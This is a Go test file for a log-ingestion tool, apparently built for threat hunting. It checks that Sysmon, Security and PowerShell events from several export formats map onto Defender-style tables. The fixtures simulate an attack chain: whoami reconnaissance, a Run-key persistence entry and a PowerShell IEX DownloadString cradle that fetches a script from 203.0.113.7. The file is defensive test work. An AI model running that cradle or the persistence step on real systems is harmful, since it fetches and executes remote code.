package ingest

import (
	"context"
	"encoding/json"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sleuth-hunt/sleuth/internal/catalog"
)

// The fixtures in testdata hold the same eight events (Sysmon 1, 3, 11, 13;
// Security 4624, 4625, 4688; PowerShell 4104) in each flavour: nxlog-flat
// (EventTime on a UTC-4 wall clock), the flat PowerShell export (TimeCreated
// on the same wall clock with a misleading "Z", and the Security events
// before any Sysmon event, so their time must wait for calibration),
// winlogbeat 6, and evtx_dump's pretty-printed JSON.
var flavourFixtures = []string{"otrf_nxlog.ndjson", "otrf_flat.ndjson", "otrf_winlogbeat.ndjson", "evtx_dump.json"}

func ingestFiles(t *testing.T, opt Options, paths ...string) (*memSink, *Summary) {
	t.Helper()
	s := newMemSink(opt.Catalog)
	sum, err := Run(context.Background(), s, paths, opt)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	return s, sum
}

func utc(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05.000", s)
	if err != nil {
		panic(err)
	}
	return t
}

// pick returns the named columns of a row (absent ones as nil).
func pick(row map[string]any, cols ...string) map[string]any {
	out := map[string]any{}
	for _, c := range cols {
		out[c] = row[c]
	}
	return out
}

// only returns the single row of table whose column col equals v.
func only(t *testing.T, s *memSink, table, col string, v any) map[string]any {
	t.Helper()
	var found []map[string]any
	for _, r := range s.rows(table) {
		if r[col] == v {
			found = append(found, r)
		}
	}
	if len(found) != 1 {
		t.Fatalf("%s rows with %s=%v: %d", table, col, v, len(found))
	}
	return found[0]
}

func additional(t *testing.T, row map[string]any) map[string]any {
	t.Helper()
	var m map[string]any
	switch x := row["AdditionalFields"].(type) {
	case catalog.JSON:
		if err := json.Unmarshal(x, &m); err != nil {
			t.Fatalf("AdditionalFields %s: %v", x, err)
		}
	case string:
		if err := json.Unmarshal([]byte(x), &m); err != nil {
			t.Fatalf("AdditionalFields %s: %v", x, err)
		}
	}
	return m
}

func forEachFlavour(t *testing.T, fn func(t *testing.T, s *memSink)) {
	for _, f := range flavourFixtures {
		t.Run(f, func(t *testing.T) {
			s, sum := ingestFiles(t, Options{}, filepath.Join("testdata", f))
			if sum.Events != 8 || sum.Skipped != 0 {
				t.Fatalf("events %d skipped %d: %v", sum.Events, sum.Skipped, sum.Errors)
			}
			fn(t, s)
		})
	}
}

func TestSysmonProcessCreate(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "DeviceProcessEvents", "ActionType", "ProcessCreated")
		want := map[string]any{
			"TimeGenerated":                      utc("2024-05-06 07:08:09.123"),
			"Timestamp":                          utc("2024-05-06 07:08:09.123"),
			"ProcessCreationTime":                utc("2024-05-06 07:08:09.123"),
			"DeviceName":                         "WKS01.contoso.local",
			"FolderPath":                         `C:\Windows\System32\cmd.exe`,
			"FileName":                           "cmd.exe",
			"ProcessCommandLine":                 `cmd.exe /c "whoami /all"`,
			"ProcessId":                          int64(4242),
			"ProcessIntegrityLevel":              "High",
			"AccountDomain":                      "CONTOSO",
			"AccountName":                        "alice",
			"LogonId":                            int64(0x3e7a1),
			"SHA1":                               "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
			"MD5":                                "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
			"SHA256":                             "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc",
			"ProcessVersionInfoOriginalFileName": "Cmd.Exe",
			"ProcessVersionInfoCompanyName":      "Microsoft Corporation",
			"ProcessVersionInfoFileDescription":  "Windows Command Processor",
			"InitiatingProcessFolderPath":        `C:\Windows\explorer.exe`,
			"InitiatingProcessFileName":          "explorer.exe",
			"InitiatingProcessCommandLine":       `C:\Windows\Explorer.EXE`,
			"InitiatingProcessId":                int64(1000),
			"InitiatingProcessAccountDomain":     "CONTOSO",
			"InitiatingProcessAccountName":       "alice",
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("DeviceProcessEvents (-want +got):\n%s", d)
		}
		extra := additional(t, row)
		for k, v := range map[string]any{"IMPHASH": "dddddddddddddddddddddddddddddddd", "ProcessGuid": "{11111111-2222-3333-4444-555555555555}",
			"CurrentDirectory": `C:\Users\alice\`, "ParentProcessGuid": "{11111111-2222-3333-4444-000000000002}"} {
			if extra[k] != v {
				t.Errorf("AdditionalFields[%s] = %v, want %v (all: %v)", k, extra[k], v, extra)
			}
		}
		if _, ok := extra["CommandLine"]; ok {
			t.Errorf("a mapped member is repeated in AdditionalFields: %v", extra)
		}
	})
}

func TestSysmonNetworkConnect(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "DeviceNetworkEvents", "ActionType", "ConnectionSuccess")
		want := map[string]any{
			"TimeGenerated":                  utc("2024-05-06 07:08:10.500"),
			"DeviceName":                     "WKS01.contoso.local",
			"LocalIP":                        "10.1.2.3",
			"LocalIPType":                    "Private",
			"LocalPort":                      int64(50123),
			"RemoteIP":                       "203.0.113.7",
			"RemoteIPType":                   "Public",
			"RemotePort":                     int64(443),
			"RemoteUrl":                      "evil.example.com",
			"Protocol":                       "Tcp",
			"InitiatingProcessFolderPath":    `C:\Windows\System32\cmd.exe`,
			"InitiatingProcessFileName":      "cmd.exe",
			"InitiatingProcessId":            int64(4242),
			"InitiatingProcessAccountDomain": "CONTOSO",
			"InitiatingProcessAccountName":   "alice",
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("DeviceNetworkEvents (-want +got):\n%s", d)
		}
	})
}

func TestSysmonFileCreate(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "DeviceFileEvents", "ActionType", "FileCreated")
		want := map[string]any{
			"TimeGenerated":               utc("2024-05-06 07:08:11.000"),
			"FolderPath":                  `C:\Users\alice\AppData\Local\Temp\payload.ps1`,
			"FileName":                    "payload.ps1",
			"InitiatingProcessFolderPath": `C:\Windows\System32\cmd.exe`,
			"InitiatingProcessFileName":   "cmd.exe",
			"InitiatingProcessId":         int64(4242),
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("DeviceFileEvents (-want +got):\n%s", d)
		}
		if got := additional(t, row)["CreationUtcTime"]; got != "2024-05-06 07:08:11.000" {
			t.Errorf("AdditionalFields.CreationUtcTime = %v", got)
		}
	})
}

func TestSysmonRegistryValueSet(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "DeviceRegistryEvents", "ActionType", "RegistryValueSet")
		want := map[string]any{
			"TimeGenerated":               utc("2024-05-06 07:08:12.250"),
			"RegistryKey":                 `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
			"RegistryValueName":           "Updater",
			"RegistryValueData":           `C:\Users\alice\AppData\Local\Temp\payload.exe`,
			"InitiatingProcessFolderPath": `C:\Windows\System32\reg.exe`,
			"InitiatingProcessFileName":   "reg.exe",
			"InitiatingProcessId":         int64(4242),
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("DeviceRegistryEvents (-want +got):\n%s", d)
		}
	})
}

func TestSecurityLogon(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		sec := only(t, s, "SecurityEvent", "EventID", int64(4624))
		want := map[string]any{
			// The flat export's wall clock is corrected by the offset its
			// Sysmon events reveal (UTC-4), though they come later.
			"TimeGenerated":             utc("2024-05-06 07:09:00.000"),
			"Computer":                  "WKS01.contoso.local",
			"Account":                   `CONTOSO\alice`,
			"AccountType":               "User",
			"TargetUserName":            "alice",
			"TargetDomainName":          "CONTOSO",
			"SubjectAccount":            `CONTOSO\WKS01$`,
			"LogonType":                 int64(10),
			"LogonTypeName":             "10 - RemoteInteractive",
			"IpAddress":                 "198.51.100.23",
			"AuthenticationPackageName": "Negotiate",
			"Activity":                  "4624 - An account was successfully logged on.",
			"Process":                   "svchost.exe",
			"EventSourceName":           "Microsoft-Windows-Security-Auditing",
		}
		if d := cmp.Diff(want, pick(sec, keys(want)...)); d != "" {
			t.Errorf("SecurityEvent (-want +got):\n%s", d)
		}
		logon := only(t, s, "DeviceLogonEvents", "ActionType", "LogonSuccess")
		wantLogon := map[string]any{
			"TimeGenerated":                utc("2024-05-06 07:09:00.000"),
			"DeviceName":                   "WKS01.contoso.local",
			"AccountDomain":                "CONTOSO",
			"AccountName":                  "alice",
			"AccountSid":                   "S-1-5-21-1-2-3-1104",
			"LogonType":                    "RemoteInteractive",
			"Protocol":                     "Negotiate",
			"RemoteIP":                     "198.51.100.23",
			"RemoteIPType":                 "Public",
			"RemoteDeviceName":             "WKS01",
			"LogonId":                      int64(0x8dcb2),
			"InitiatingProcessFileName":    "svchost.exe",
			"InitiatingProcessId":          int64(0x2c4),
			"InitiatingProcessAccountName": "WKS01$",
		}
		if d := cmp.Diff(wantLogon, pick(logon, keys(wantLogon)...)); d != "" {
			t.Errorf("DeviceLogonEvents (-want +got):\n%s", d)
		}
	})
}

func TestSecurityFailedLogon(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "DeviceLogonEvents", "ActionType", "LogonFailed")
		want := map[string]any{
			"TimeGenerated":    utc("2024-05-06 07:09:30.000"),
			"AccountName":      "administrator",
			"LogonType":        "Network",
			"Protocol":         "NTLM",
			"FailureReason":    "InvalidUserNameOrPassword",
			"RemoteIP":         "192.0.2.66",
			"RemotePort":       int64(51515),
			"RemoteDeviceName": "KALI",
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("DeviceLogonEvents (-want +got):\n%s", d)
		}
		sec := only(t, s, "SecurityEvent", "EventID", int64(4625))
		if sec["Status"] != "0xc000006d" || sec["SubStatus"] != "0xc000006a" || sec["Account"] != `CONTOSO\administrator` {
			t.Errorf("SecurityEvent 4625: %v", pick(sec, "Status", "SubStatus", "Account"))
		}
	})
}

func TestSecurityProcessCreate(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "SecurityEvent", "EventID", int64(4688))
		want := map[string]any{
			"TimeGenerated":      utc("2024-05-06 07:09:45.000"),
			"Account":            `CONTOSO\alice`, // the target is "-": the subject is the account
			"NewProcessName":     `C:\Windows\System32\whoami.exe`,
			"NewProcessId":       "0x1a2b",
			"CommandLine":        "whoami /all",
			"ParentProcessName":  `C:\Windows\System32\cmd.exe`,
			"Process":            "whoami.exe",
			"TokenElevationType": "%%1937",
			"MandatoryLabel":     "S-1-16-12288",
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("SecurityEvent 4688 (-want +got):\n%s", d)
		}
		if len(s.rows("DeviceProcessEvents")) != 1 {
			t.Errorf("4688 must not become a DeviceProcessEvents row")
		}
	})
}

func TestPowerShellScriptBlock(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		row := only(t, s, "WindowsEvent", "EventID", int64(4104))
		want := map[string]any{
			"TimeGenerated": utc("2024-05-06 07:10:00.000"),
			"Channel":       "Microsoft-Windows-PowerShell/Operational",
			"Provider":      "Microsoft-Windows-PowerShell",
			"Computer":      "WKS01.contoso.local",
		}
		if d := cmp.Diff(want, pick(row, keys(want)...)); d != "" {
			t.Errorf("WindowsEvent (-want +got):\n%s", d)
		}
		var data map[string]any
		if err := json.Unmarshal(row["EventData"].(catalog.JSON), &data); err != nil {
			t.Fatal(err)
		}
		if data["ScriptBlockText"] != "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')" {
			t.Errorf("EventData = %v", data)
		}
	})
}

// TestEveryEventInWindowsEvent checks nothing is lost: each event has a
// WindowsEvent row whose EventData holds all of its members.
func TestEveryEventInWindowsEvent(t *testing.T) {
	forEachFlavour(t, func(t *testing.T, s *memSink) {
		rows := s.rows("WindowsEvent")
		if len(rows) != 8 {
			t.Fatalf("WindowsEvent rows: %d", len(rows))
		}
		for _, r := range rows {
			var data map[string]any
			if err := json.Unmarshal(r["EventData"].(catalog.JSON), &data); err != nil {
				t.Fatal(err)
			}
			if r["EventID"] == int64(1) && (data["CommandLine"] != `cmd.exe /c "whoami /all"` || data["Hashes"] == nil) {
				t.Errorf("Sysmon 1 EventData lost members: %v", data)
			}
			if r["TimeGenerated"] == nil {
				t.Errorf("no TimeGenerated: %v", r)
			}
		}
	})
}

func keys(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}
